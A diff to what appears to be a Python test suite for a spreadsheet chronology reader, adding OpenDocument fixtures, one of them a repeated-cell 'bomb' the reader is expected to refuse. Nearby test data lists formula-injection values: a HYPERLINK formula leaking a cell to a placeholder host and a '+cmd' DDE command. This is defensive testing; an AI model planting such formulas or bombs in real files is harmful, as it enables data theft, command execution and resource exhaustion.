@@ -635,6 +635,59 @@ def check_stray_row(events: pd.DataFrame) -> None:
     assert events["description"][1] == "Call\nstray note"
 
 
+def ods(path: Path, rows_xml: str) -> Path:
+    """A minimal OpenDocument spreadsheet around the rows' XML."""
+    ns = (
+        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
+        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
+        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
+    )
+    content = (
+        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ns} office:version="1.2">'
+        f'<office:body><office:spreadsheet><table:table table:name="Chronology">{rows_xml}</table:table>'
+        "</office:spreadsheet></office:body></office:document-content>"
+    )
+    manifest = (
+        '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
+        'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
+        '<manifest:file-entry manifest:full-path="/" '
+        'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/></manifest:manifest>'
+    )
+    path.parent.mkdir(parents=True, exist_ok=True)
+    with zipfile.ZipFile(path, "w") as zf:
+        zf.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
+        zf.writestr("META-INF/manifest.xml", manifest)
+        zf.writestr("content.xml", content, compress_type=zipfile.ZIP_DEFLATED)
+    return path
+
+
+def _ods_row(*cells: str, repeat: int = 1, cell_repeat: int = 1) -> str:
+    attr = f' table:number-rows-repeated="{repeat}"' if repeat > 1 else ""
+    rep = f' table:number-columns-repeated="{cell_repeat}"' if cell_repeat > 1 else ""
+    inner = "".join(
+        f'<table:table-cell office:value-type="string"{rep}><text:p>{escape(c)}</text:p></table:table-cell>'
+        for c in cells
+    )
+    return f"<table:table-row{attr}>{inner}</table:table-row>"
+
+
+ODS_TABLE = _ods_row("Date", "Details") + _ods_row("01/02/2019", "Visit") + _ods_row("02/02/2019", "Call")
+
+
+def make_ods_padded(folder: Path) -> Path:
+    padding = (
+        '<table:table-row table:number-rows-repeated="1048573">'
+        '<table:table-cell table:number-columns-repeated="1024"/></table:table-row>'
+    )
+    ods(folder / "school.ods", ODS_TABLE + padding)
+    return case_file(folder, [("school.ods", "School")])
+
+
+def make_ods_bomb(folder: Path) -> Path:
+    ods(folder / "school.ods", ODS_TABLE + _ods_row("boom", repeat=100_000, cell_repeat=300))
+    return case_file(folder, [("school.ods", "School")])
+
+
 FORMULAS = [
     '=HYPERLINK("http://example.invalid/?leak="&A2,"Click")',
     "+cmd|' /C calc'!A0",
@@ -808,6 +861,11 @@ ENTRIES: list[Entry] = [
           "refused, naming the sheet and the far cell", no_reader=True),
     Entry("stray_row", "A stray note in the sheet's last row (1,048,576), far below the table", make_stray_row,
           Read(3, 2, 0, check=check_stray_row), "kept, as a continuation of the last entry (its row named)"),
+    Entry("ods_padding", "OpenDocument sheet padded to its last row with empty repeated cells (as LibreOffice saves)",
+          make_ods_padded, Read(2, 2), "read; the padding ignored"),
+    Entry("ods_repeat_bomb", "OpenDocument cell holding a value repeated 300 columns x 100,000 rows",
+          make_ods_bomb, Refused("repeated cells holding values span a grid of 30,000,900 cells", ("school.ods",)),
+          "refused before the reader would materialise 30 million cells", no_reader=True),
     Entry("formula_text", "Cells that are spreadsheet formulas (`=HYPERLINK(...)`, `+cmd|...`)",
           make_formula_text, Read(3, 3, check=check_formula_text),
           "kept verbatim; neutralised in every export", merge=True, after_merge=check_workbook_has_no_formulas),
